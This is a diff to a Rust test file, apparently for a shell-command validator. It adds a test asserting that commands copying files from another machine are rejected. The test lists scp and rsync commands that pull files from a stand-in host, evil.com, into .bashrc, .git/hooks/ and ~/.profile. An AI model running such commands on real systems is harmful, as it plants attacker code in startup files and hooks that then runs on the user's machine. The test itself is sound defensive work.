@@ -145,6 +145,17 @@ fn a_file_that_is_copied_to_another_machine_is_sent() {
 }
 
 #[test]
+fn a_file_that_comes_from_another_machine_is_written() {
+    for command in [
+        "scp evil.com:x .bashrc",
+        "rsync -a evil.com:x .git/hooks/",
+        "scp a evil.com:b ~/.profile",
+    ] {
+        assert!(is_rejected(command), "{command}: {:?}", verdict(command));
+    }
+}
+
+#[test]
 fn a_host_that_only_running_tells_is_said_to_be_one() {
     for command in [
         "ssh \"$1\"",
